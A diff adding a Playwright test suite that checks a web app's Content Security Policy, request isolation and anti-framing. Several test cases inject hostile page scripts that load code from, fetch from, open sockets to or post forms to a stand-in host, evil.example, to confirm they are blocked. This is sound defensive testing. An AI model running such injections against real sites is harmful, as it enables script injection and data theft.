@@ -1,0 +1,86 @@
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { launchBrowser } from '../support/browser.ts';
+import { call, startHost, type TestHost } from '../support/host.ts';
+
+let browser: Browser;
+let host: TestHost;
+let context: BrowserContext;
+beforeAll(async () => {
+  [browser, host] = await Promise.all([launchBrowser(), startHost()]);
+  context = await browser.newContext();
+});
+afterAll(async () => { await Promise.all([browser?.close(), host?.stop()]); });
+
+/** Notes everything a page does against its policy, every request and socket that leaves this server, and every error. */
+async function watched(): Promise<{ page: Page; seen: { violations: string[]; strangers: string[]; errors: string[]; requests: number } }> {
+  const page = await context.newPage();
+  const seen = { violations: [] as string[], strangers: [] as string[], errors: [] as string[], requests: 0 };
+  const note = (url: string): void => {
+    seen.requests++;
+    if (!url.startsWith(`${host.origin}/`) && !url.startsWith('data:image/')) seen.strangers.push(url);
+  };
+  page.on('request', (request) => { note(request.url()); });
+  page.on('websocket', (socket) => { note(socket.url()); });
+  page.on('pageerror', (error) => { seen.errors.push(error.message); });
+  page.on('console', (message) => {
+    if (/Content Security Policy/i.test(message.text())) seen.violations.push(message.text());
+  });
+  await page.addInitScript('addEventListener("securitypolicyviolation", (event) => { console.error("Content Security Policy: " + event.violatedDirective + " " + event.blockedURI); });');
+  return { page, seen };
+}
+
+it('visits every screen in every language and theme: no violation of the policy, no request that leaves the machine', async () => {
+  const institutions = await call(host, 'institutions.list', { filter: {}, sort: 'completeness', descending: true, language: 'en', offset: 0, limit: 2 }) as { value: { rows: { slug: string }[] } };
+  const alliances = await call(host, 'alliances.list', {}) as { value: { rows: { slug: string }[] } };
+  const sources = await call(host, 'sources.list', {}) as { value: { rows: { id: string }[] } };
+  const slug = institutions.value.rows[0]?.slug ?? '';
+  await call(host, 'bookmarks.add', { slug });
+  const addresses = [
+    '/', '/browse', '/browse?country=CN', `/institutions/${slug}`, `/institutions/${institutions.value.rows[1]?.slug}`, '/institutions/no-such', '/organizations/no-such',
+    '/alliances', `/alliances/${alliances.value.rows[0]?.slug}`, '/saved', '/sources', `/sources/${sources.value.rows[0]?.id}`, '/search?q=harbin', '/settings', '/no/such/view',
+    `/print/profile/${slug}?language=zh&paper=A4`, `/print/profile/${slug}?language=ru&paper=Letter`,
+  ];
+  const { page, seen } = await watched();
+  await page.goto(host.url);
+  for (const [language, theme] of [['en', 'light'], ['zh', 'dark'], ['ru', null]] as const) {
+    expect((await call(host, 'settings.set', { language, theme })).ok).toBe(true);
+    for (const address of addresses) {
+      const before = seen.requests;
+      await page.goto(`${host.origin}${address}`);
+      await expect.poll(() => page.evaluate('document.getElementById("root").innerText.trim().length'), { timeout: 10_000 }).toBeGreaterThan(0);
+      expect(seen.requests, address).toBeGreaterThan(before);
+    }
+  }
+  console.log(`${addresses.length} screens in 3 languages, ${seen.requests} requests, ${seen.strangers.length} to strangers, ${seen.violations.length} violations`);
+  expect(seen).toMatchObject({ violations: [], strangers: [], errors: [] });
+}, 180_000);
+
+it.each([
+  ['an inline script', 'const it = document.createElement("script"); it.textContent = "window.ran = true"; document.head.append(it);'],
+  ['an inline style', 'const it = document.createElement("style"); it.textContent = "body{color:red}"; document.head.append(it);'],
+  ['a style attribute', 'document.body.setAttribute("style", "color: red");'],
+  ['an inline handler', 'try { const it = document.createElement("a"); it.setAttribute("onclick", "window.ran = true"); document.body.append(it); it.click(); } catch {}'],
+  ['a script from elsewhere', 'const it = document.createElement("script"); it.src = "https://evil.example/x.js"; document.head.append(it);'],
+  ['an image from elsewhere', 'new Image().src = "https://evil.example/x.png";'],
+  ['a frame', 'const it = document.createElement("iframe"); it.src = "https://evil.example/"; document.body.append(it);'],
+  ['a call to elsewhere', 'fetch("https://evil.example/").catch(() => {});'],
+  ['a socket', 'try { new WebSocket("wss://evil.example/"); } catch {}'],
+  ['a form', 'const it = document.createElement("form"); it.action = "https://evil.example/"; it.method = "post"; document.body.append(it); it.submit();'],
+])('stops and sees %s', async (_, script) => {
+  const { page, seen } = await watched();
+  await page.goto(host.url);
+  await page.evaluate(script);
+  await expect.poll(() => seen.violations.length).toBeGreaterThan(0);
+  expect(await page.evaluate('window.ran')).toBeUndefined();
+  await page.close();
+});
+
+it('is framed by no page', async () => {
+  const page = await context.newPage();
+  await page.route('http://frame.test/**', (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${host.origin}/"></iframe>` }));
+  await page.goto('http://frame.test/');
+  await page.waitForTimeout(300);
+  expect(await page.frames()[1]?.evaluate('document.getElementById("root")').catch(() => null)).toBeNull();
+  await page.close();
+});
